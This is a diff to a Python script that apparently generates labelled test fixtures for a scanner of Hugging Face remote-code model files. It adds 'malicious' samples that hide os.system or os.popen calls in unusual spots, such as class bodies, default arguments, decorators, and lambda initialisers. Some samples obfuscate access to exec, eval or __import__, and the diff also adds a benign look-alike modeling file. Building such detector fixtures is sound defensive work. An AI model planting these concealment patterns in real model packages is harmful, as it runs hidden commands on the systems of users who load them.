@@ -1696,6 +1696,57 @@ for name, text in B4.items():
     put(f"benign/templates/{name}/chat_template.jinja", text, "benign", "real-chat-template",
         f"{name} chat template look-alike")
 
+# ---------------------------------------------------------------- round 5: Python positions and benign idioms
+PY_BAD5 = [
+    ("class-body", "import os\n\n\nclass M:\n    os.system(\"CMD\")\n"),
+    ("def-default", "import os\n\n\ndef f(x=os.system(\"CMD\")):\n    return x\n"),
+    ("decorator-arg", "import functools\nimport os\n\n\n@functools.lru_cache(maxsize=os.system(\"CMD\"))\ndef f():\n    return 1\n"),
+    ("comprehension", "import os\n\n_ = [os.system(c) for c in [\"CMD\"]]\n"),
+    ("with-try", "import os\n\ntry:\n    with open(os.devnull) as _f:\n        os.popen(\"CMD\").read()\nexcept Exception:\n    pass\n"),
+    ("builtins-dict-get", "_e = __builtins__.__dict__.get(\"ex\" + \"ec\") if hasattr(__builtins__, \"__dict__\") else __builtins__.get(\"exec\")\n_e(\"print(1)\")\n"),
+    ("vars-builtins", "import builtins\n\nvars(builtins)[\"ev\" + \"al\"](\"1 + 1\")\n"),
+    ("nested-getattr-import", "getattr(getattr(__builtins__, \"__imp\" + \"ort__\")(\"os\"), \"system\")(\"CMD\")\n"),
+    ("module-dict", "import os as _o\n\n_o.__dict__[\"sys\" + \"tem\"](\"CMD\")\n"),
+    ("type-lambda-init", "import os\n\nX = type(\"X\", (), {\"__init__\": lambda self: os.system(\"CMD\") and None})\nX()\n"),
+]
+for name, src in PY_BAD5:
+    put(f"malicious/remote-code/{name}/modeling_x.py", src.replace("CMD", CMD), "malicious", "py-position",
+        "command in an unusual position: " + name)
+
+PY_BENIGN5 = {
+"benign/hf-remote/modeling_vlm.py": """import os
+import sys
+
+import torch
+from torch import nn
+from transformers import AutoModel, CLIPVisionModel, PreTrainedModel
+
+os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
+sys.setrecursionlimit(max(sys.getrecursionlimit(), 10000))
+
+
+class VisionTower(nn.Module):
+    def __init__(self, name="openai/clip-vit-large-patch14-336"):
+        super().__init__()
+        self.tower = CLIPVisionModel.from_pretrained(name)
+        self.tower.requires_grad_(False)
+
+
+class VLM(PreTrainedModel):
+    def __init__(self, config):
+        super().__init__(config)
+        self.vision = VisionTower(getattr(config, "mm_vision_tower", "openai/clip-vit-large-patch14-336"))
+        self.llm = AutoModel.from_config(config.text_config)
+        self.projector = nn.Linear(1024, config.text_config.hidden_size)
+
+    def load_projector(self, path):
+        state = torch.load(os.path.join(path, "mm_projector.bin"), map_location="cpu")
+        self.projector.load_state_dict({k.split(".")[-1]: v for k, v in state.items()})
+""",
+}
+for rel, src in PY_BENIGN5.items():
+    put(rel, src, "benign", "hf-remote-code-py", "remote-code look-alike: " + os.path.basename(rel))
+
 with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
     f.write("path\texpected\tclass\tdescription\n")
     for r in ROWS:
